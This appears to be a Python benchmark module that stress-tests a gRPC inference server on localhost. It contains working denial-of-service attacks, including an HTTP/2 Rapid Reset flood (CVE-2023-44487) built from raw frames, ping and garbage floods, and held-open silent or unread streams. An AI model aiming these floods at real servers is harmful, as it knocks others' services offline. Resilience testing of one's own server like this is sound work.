"""Attacks on a server. Each runs until its `stop` event is set."""

import asyncio
import contextlib
import socket

import grpc
import numpy as np

from benchmarks.support.rpc_messages import STREAM
from mods_grpc.v1 import inference_pb2 as pb
from mods_grpc.v1 import verdict_pb2

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0"
# HPACK: POST http /mods.v1.InferenceService/StreamDetect, content-type and te as literals without indexing
HEADERS = (
    b"\x83\x86"
    b"\x04" + bytes([len(STREAM)]) + STREAM.encode() + b"\x01\x01x" + b"\x0f\x10\x10application/grpc" + b"\x00\x02te\x08trailers"
)
OWN_CONNECTION = [("grpc.use_local_subchannel_pool", 1)]
SILENT_STREAMS, UNREAD_STREAMS, IDLE_CONNECTIONS, CHANNELS = 200, 100, 300, 4


def make_frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


@contextlib.asynccontextmanager
async def open_streams(port, requests, count, **config):
    """Open StreamDetect calls over CHANNELS connections."""
    opening = pb.StreamDetectRequest(config=pb.StreamConfig(model=requests.model, **config)).SerializeToString()
    async with contextlib.AsyncExitStack() as stack:
        channels = [
            await stack.enter_async_context(grpc.aio.insecure_channel(f"127.0.0.1:{port}", options=OWN_CONNECTION))
            for _ in range(CHANNELS)
        ]
        calls = [channels[i % CHANNELS].stream_stream(STREAM)() for i in range(count)]
        for call in calls:
            await call.write(opening)
        yield calls
        for call in calls:
            call.cancel()


async def hold_silent_streams(port, requests, stop):
    """Open streams and send nothing more."""
    async with open_streams(port, requests, SILENT_STREAMS, sensor="silent"):
        await stop.wait()


async def send_without_reading(port, requests, stop):
    """Request long answers as fast as the server accepts the messages, and read none."""
    async with open_streams(port, requests, UNREAD_STREAMS, sensor="mute", explain=verdict_pb2.EXPLAIN_ALL) as calls:
        tasks = [asyncio.ensure_future(_write_messages(call, requests)) for call in calls]
        await stop.wait()
        for task in tasks:
            task.cancel()


async def _write_messages(call, requests):
    with contextlib.suppress(grpc.RpcError, asyncio.InvalidStateError):
        for message in requests.make_stream(64, 0, 10**6):
            await call.write(message)


async def send_frames(port, stop, make_frames):
    """Send raw HTTP/2 frames as fast as the peer accepts them, and read nothing. Reconnects when the connection ends."""
    while not stop.is_set():
        try:
            _, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        try:
            writer.transport.set_write_buffer_limits(high=1 << 16)
            writer.write(PREFACE)
            number = 1
            while not stop.is_set() and number < 2**30:
                for _ in range(50):
                    writer.write(make_frames(number))
                    number += 2
                await asyncio.wait_for(writer.drain(), 1)
                await asyncio.sleep(0.001)
        except (OSError, TimeoutError):
            await asyncio.sleep(0.05)
        finally:
            writer.transport.abort()


async def send_rapid_resets(port, _, stop):
    """Open streams and reset them immediately (CVE-2023-44487)."""
    await send_frames(port, stop, lambda number: make_frame(1, 4, number, HEADERS) + make_frame(3, 0, number, b"\0\0\0\x08"))


async def send_pings(port, _, stop):
    await send_frames(port, stop, lambda _: make_frame(6, 0, 0, bytes(8)))


async def send_garbage(port, _, stop):
    rng = np.random.default_rng(2)
    await send_frames(port, stop, lambda _: rng.bytes(200))


async def hold_idle_connections(port, _, stop):
    """Open connections that send nothing."""
    sockets = []
    try:
        for _ in range(IDLE_CONNECTIONS):
            connection = socket.socket()
            connection.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                connection.connect(("127.0.0.1", port))
            sockets.append(connection)
            await asyncio.sleep(0)
        await stop.wait()
    finally:
        for connection in sockets:
            connection.close()


ATTACKS = {
    f"{SILENT_STREAMS} silent streams": hold_silent_streams,
    "rapid reset": send_rapid_resets,
    f"{UNREAD_STREAMS} that never read": send_without_reading,
    "ping flood": send_pings,
    "garbage": send_garbage,
    f"{IDLE_CONNECTIONS} idle connections": hold_idle_connections,
}
